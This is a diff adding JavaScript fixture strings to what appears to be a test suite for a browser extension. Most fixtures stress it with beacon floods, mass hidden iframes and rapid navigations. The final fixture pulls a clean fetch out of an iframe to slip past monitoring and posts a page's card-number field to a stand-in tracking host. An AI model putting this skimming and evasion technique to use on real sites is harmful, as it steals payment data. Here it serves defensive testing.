@@ -102,3 +102,60 @@ export const FLOODING = `(() => {
   localStorage.removeItem('flood');
   return true;
 })()`;
+
+/** Where nobody listens: what is sent there fails at once, and is told of all the same. */
+export const NOWHERE = 'https://127.0.0.1:1/';
+
+/** Sends ten thousand beacons in one task; answers how many the browser took. */
+export const BEACONS = 10_000;
+export const BEACONING = `(() => {
+  let taken = 0;
+  for (let i = 0; i < ${BEACONS}; i += 1) if (navigator.sendBeacon('${NOWHERE}b' + i)) taken += 1;
+  return taken;
+})()`;
+
+/** Opens a thousand frames, a hundred at a time, and calls in each what is observed; answers in how many it could. */
+export const FRAMES = 1_000;
+export const FRAMING = `(async () => {
+  let called = 0;
+  for (let done = 0; done < ${FRAMES}; done += 100) {
+    const box = document.body.appendChild(document.createElement('div'));
+    box.hidden = true;
+    for (let i = 0; i < 100; i += 1) {
+      const frame = box.appendChild(document.createElement('iframe'));
+      frame.contentWindow.localStorage.setItem('framed', String(done + i));
+      called += 1;
+    }
+    await new Promise(resolve => { setTimeout(resolve); });
+    box.remove();
+  }
+  localStorage.removeItem('framed');
+  localStorage.setItem('after-frames', 'still there');
+  return called;
+})()`;
+
+/** Sends a frame from one document to the next, each before it has come to rest; answers how many there were. */
+export const NAVIGATIONS = 60;
+export const NAVIGATING = `(async () => {
+  const frame = document.body.appendChild(document.createElement('iframe'));
+  frame.hidden = true;
+  for (let i = 0; i < ${NAVIGATIONS}; i += 1) {
+    await new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 300); frame.src = '/api/loop?n=' + i; });
+  }
+  frame.remove();
+  localStorage.setItem('after-loop', 'still there');
+  return ${NAVIGATIONS};
+})()`;
+
+/** Takes a clean `fetch` out of a frame whose document has not begun, and sends with it what no browser would show an extension. */
+export const CLEAN_HOST = 'pixel.unlisted-metrics.test';
+export const ESCAPING = `(async () => {
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  frame.src = '/api/loop?pending';
+  document.body.append(frame);
+  const { fetch: clean, Blob: Clean } = frame.contentWindow;
+  await clean('https://${CLEAN_HOST}/clean', { method: 'POST', mode: 'no-cors', body: new Clean([document.querySelector('#card-number').value]) }).catch(() => 0);
+  frame.remove();
+  return true;
+})()`;
